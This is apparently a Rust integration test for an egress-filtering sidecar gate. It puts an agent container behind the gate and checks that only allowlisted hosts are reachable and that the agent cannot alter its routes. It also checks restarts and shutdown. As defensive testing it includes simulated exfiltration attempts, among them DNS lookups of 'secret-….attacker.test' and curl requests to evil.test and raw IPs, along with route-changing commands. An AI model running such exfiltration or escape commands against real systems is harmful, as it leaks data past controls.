//! `examples/sidecar` as it is shipped, on Debian's dockerd: an agent container behind the gate, with no route, no
//! capability and no network of its own. The image's base is made from files of this machine, since nothing is pulled.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::support::docker::{Docker, tree};
use crate::support::gate::wait_until;
use crate::support::*;

const POLICY: &str = concat!(
    r#"
[[client]]
name = "agent"
interface = "agents0"

[[rule]]
name = "good"
hosts = ["api.good.test"]
action = "allow"
"#,
    plain!()
);

struct Sidecar<'a> {
    docker: Docker<'a>,
    compose: PathBuf,
}

impl<'a> Sidecar<'a> {
    /// Builds the image and starts everything, with this world's internet behind the host.
    fn up(world: &'a World) -> Self {
        let dir = world.dir.path();
        world.forward_packets();
        let compose = example(dir);
        let base = dir.join("base");
        // busybox has the shell, sleep and ip.
        tree(
            &base,
            &[
                ("busybox", "bin/busybox"),
                ("curl", "usr/bin/curl"),
                (env!("CARGO_BIN_EXE_outgate"), "usr/local/bin/outgate"),
            ],
        );
        // Debug symbols are most of the program, and nobody reads them in there.
        world.gate.sh(format!("strip {}", base.join("usr/local/bin/outgate").display()));
        for name in ["sh", "ip", "sleep", "cat", "grep", "nslookup", "id"] {
            std::os::unix::fs::symlink("/bin/busybox", base.join("bin").join(name)).unwrap();
        }
        std::fs::write(base.join("etc/passwd"), "root:x:0:0::/:/bin/sh\n").unwrap();
        let docker = Docker::start(&world.gate, dir, "93.184.216.53");
        docker.import(&base, "outgate-test-base");
        let sidecar = Self { docker, compose };
        let begun = Instant::now();
        sidecar.compose(&["build", "outgate"]);
        let built = begun.elapsed();
        sidecar.compose(&["up", "--detach"]);
        eprintln!("image built in {built:?}, everything up after {:?}", begun.elapsed());
        sidecar
    }

    fn compose(&self, arguments: &[&str]) -> String {
        let file = self.compose.to_str().unwrap();
        let all = [&["--project-name", "sidecar", "--file", file], arguments].concat();
        self.docker.run("docker-compose", &all, &ENVIRONMENT)
    }

    fn agent(&self, line: &str) -> Output {
        self.docker.try_run("docker", &["exec", "sidecar_agent_1", "sh", "-c", line], &[])
    }

    /// The HTTP status that the agent's curl sees; 000 where there was none.
    fn fetch(&self, arguments: &str) -> String {
        let line = format!("curl -s -o /dev/null -w '%{{http_code}}' --max-time 2 {arguments}");
        String::from_utf8_lossy(&self.agent(&line).stdout).into_owned()
    }

    fn gate(&self, line: &str) -> String {
        self.docker.docker(&["exec", "sidecar_outgate_1", "sh", "-c", line])
    }

    /// All that could explain a failure.
    fn story(&self) -> String {
        let tried = self
            .agent("ip addr; ip route; cat /etc/resolv.conf; curl -sv --max-time 5 https://api.good.test/");
        let logs = self.docker.try_run("docker", &["logs", "sidecar_outgate_1"], &[]);
        [tried.stdout, tried.stderr, logs.stdout, logs.stderr]
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
            .concat()
    }

    fn records(&self) -> Vec<serde_json::Value> {
        let logs = self.docker.try_run("docker", &["logs", "sidecar_outgate_1"], &[]);
        let text = String::from_utf8_lossy(&logs.stdout).into_owned();
        text.lines()
            .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
            .collect()
    }

    fn wait_for_record(&self, words: &str) {
        let there = || self.records().iter().any(|record| record.to_string().contains(words)).then_some(());
        assert!(
            wait_until(Duration::from_secs(10), there).is_some(),
            "no record with {words}: {:?}",
            self.records()
        );
    }
}

/// The Dockerfile's own arguments, and the client that builds with BuildKit.
const ENVIRONMENT: [(&str, &str); 5] = [
    ("OUTGATE_BINARY", "outgate-test-base"),
    ("OUTGATE_BASE", "outgate-test-base"),
    ("AGENT_IMAGE", "outgate-test-base"),
    ("DOCKER_BUILDKIT", "1"),
    ("COMPOSE_DOCKER_CLI_BUILD", "1"),
];

/// A copy of the example with this world's authorities and policy; gives its compose file.
fn example(dir: &Path) -> PathBuf {
    let from = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sidecar");
    let to = dir.join("checkout/examples/sidecar");
    std::fs::create_dir_all(to.join("policies")).unwrap();
    for name in ["Dockerfile", "compose.yml"] {
        std::fs::copy(from.join(name), to.join(name)).unwrap();
    }
    let config = std::fs::read_to_string(from.join("outgate.toml")).unwrap();
    let roots = "\n[upstream]\nroots = \"policies/origin-ca.pem\"\n";
    std::fs::write(to.join("outgate.toml"), config + roots).unwrap();
    std::fs::copy(dir.join("origin-ca.pem"), to.join("policies/origin-ca.pem")).unwrap();
    std::fs::write(to.join("policies/agent.toml"), POLICY).unwrap();
    to.join("compose.yml")
}

#[test]
fn an_agent_container_behind_the_sidecar_has_no_other_way_out() {
    let world = World::new();
    let sidecar = Sidecar::up(&world);
    let begun = Instant::now();
    what_is_allowed_works(&sidecar, &world);
    nothing_else_leaves(&sidecar, &world);
    eprintln!("its ways out were tried after {:?}", begun.elapsed());
    the_agent_can_change_nothing(&sidecar);
    // Before the next: after `docker kill`, whatever the signal, Docker no longer restarts a container by itself.
    a_daemon_that_is_killed_comes_back(&sidecar);
    process_1_is_a_good_parent(&sidecar);
    it_stops_in_order_and_the_agent_is_cut_off(&sidecar, &world);
    eprintln!("stopped and started again after {:?}", begun.elapsed());
}

fn what_is_allowed_works(sidecar: &Sidecar<'_>, world: &World) {
    let first = sidecar.fetch("https://api.good.test/from-the-agent");
    assert_eq!(first, "200", "{}", sidecar.story());
    assert_eq!(sidecar.fetch("http://plain.good.test/from-the-agent"), "200");
    let seen = world.origin.requests();
    assert_eq!(seen.iter().filter(|request| request.target == "/from-the-agent").count(), 2);
    sidecar.wait_for_record("/from-the-agent");
    let door = sidecar
        .records()
        .into_iter()
        .find(|record| record["kind"] == "decision" && record["door"] == "transparent");
    assert_eq!(door.unwrap()["client"], "agent");
}

fn nothing_else_leaves(sidecar: &Sidecar<'_>, world: &World) {
    let (packets, queries) = (world.capture.packets().len(), world.dns.queries().len());
    for attempt in [
        "https://evil.test/",
        "--resolve evil.test:443:93.184.216.66 https://evil.test/",
        "http://93.184.216.66/",
        "http://93.184.216.66:8443/",
        "--resolve api.good.test:8443:93.184.216.10 https://api.good.test:8443/",
        // The host and the gate themselves.
        "http://10.88.0.1:80/",
        "http://10.88.0.2:15001/",
        "http://93.184.216.1/",
    ] {
        let status = sidecar.fetch(attempt);
        assert!(["000", "403"].contains(&status.as_str()), "{attempt}: {status}");
    }
    // Any resolver at all is the gate's door, Docker's own included.
    for server in ["10.88.0.2", "93.184.216.66", "127.0.0.11", "8.8.8.8"] {
        sidecar.agent(&format!("nslookup secret-{server}.attacker.test {server}"));
    }
    sidecar.wait_for_record("secret-127.0.0.11.attacker.test");
    let asked = world.dns.queries().split_off(queries);
    assert!(
        !asked.iter().any(|query| query.name.contains("attacker") || query.name.contains("evil")),
        "{asked:?}"
    );
    let left = world.capture.packets().split_off(packets);
    let foreign = left
        .iter()
        .find(|packet| packet.outgoing && packet.to.ip() != DNS && (packet.syn || packet.to.ip() == EVIL));
    assert!(foreign.is_none(), "{foreign:?}");
}

fn the_agent_can_change_nothing(sidecar: &Sidecar<'_>) {
    let status =
        String::from_utf8_lossy(&sidecar.agent("cat /proc/self/status; ip route").stdout).into_owned();
    for line in ["CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1"] {
        assert!(status.contains(line), "{line} not in\n{status}");
    }
    assert!(status.contains("default via 10.88.0.2") && !status.contains("10.88.0.0/24"), "{status}");
    for line in [
        "ip route del default",
        "ip route add 93.184.216.66 dev agents0",
        "ip addr add 10.88.0.9/24 dev agents0",
    ] {
        let tried = sidecar.agent(line);
        assert!(!tried.status.success(), "{line} was allowed: {tried:?}");
    }
}

fn process_1_is_a_good_parent(sidecar: &Sidecar<'_>) {
    // An orphan: its parent ends at once, and process 1 inherits it.
    for _ in 0..5 {
        sidecar.gate("(sleep 0.1 &) ; true");
    }
    let buried = || {
        let listed = sidecar.gate("cat /proc/[0-9]*/stat 2>/dev/null || true");
        (!listed.contains("(sleep)")).then_some(())
    };
    assert!(
        wait_until(Duration::from_secs(5), buried).is_some(),
        "{}",
        sidecar.gate("cat /proc/[0-9]*/stat")
    );
    let first = sidecar.gate("cat /proc/1/status /proc/1/cmdline");
    assert!(first.contains("CapEff:\t0000000000000000") && first.contains("first-process"), "{first}");
    sidecar.docker.docker(&["kill", "--signal=HUP", "sidecar_outgate_1"]);
    sidecar.wait_for_record("\"event\":\"reload\"");
}

/// What the kernel's OOM killer does: the container ends with the daemon, and Docker starts it again.
fn a_daemon_that_is_killed_comes_back(sidecar: &Sidecar<'_>) {
    let first = sidecar.docker.docker(&["inspect", "--format={{.State.Pid}}", "sidecar_outgate_1"]);
    let children = format!("/proc/{0}/task/{0}/children", first.trim());
    let daemon = std::fs::read_to_string(children).unwrap().trim().parse().unwrap();
    kill(Pid::from_raw(daemon), Signal::SIGKILL).unwrap();
    let back = || (sidecar.fetch("http://plain.good.test/") == "200").then_some(());
    assert!(wait_until(Duration::from_secs(15), back).is_some(), "{}", sidecar.story());
    let count = sidecar.docker.docker(&["inspect", "--format={{.RestartCount}}", "sidecar_outgate_1"]);
    assert_eq!(count.trim(), "1");
}

fn it_stops_in_order_and_the_agent_is_cut_off(sidecar: &Sidecar<'_>, world: &World) {
    let requests = world.origin.requests().len();
    sidecar.docker.docker(&["stop", "sidecar_outgate_1"]);
    let code = sidecar.docker.docker(&["inspect", "--format={{.State.ExitCode}}", "sidecar_outgate_1"]);
    assert_eq!(code.trim(), "0");
    sidecar.wait_for_record("\"event\":\"stop\"");
    assert_eq!(sidecar.fetch("--resolve plain.good.test:80:93.184.216.10 http://plain.good.test/"), "000");
    assert_eq!(world.origin.requests().len(), requests);
    sidecar.docker.docker(&["start", "sidecar_outgate_1"]);
    let back = || (sidecar.fetch("http://plain.good.test/") == "200").then_some(());
    assert!(wait_until(Duration::from_secs(10), back).is_some());
}
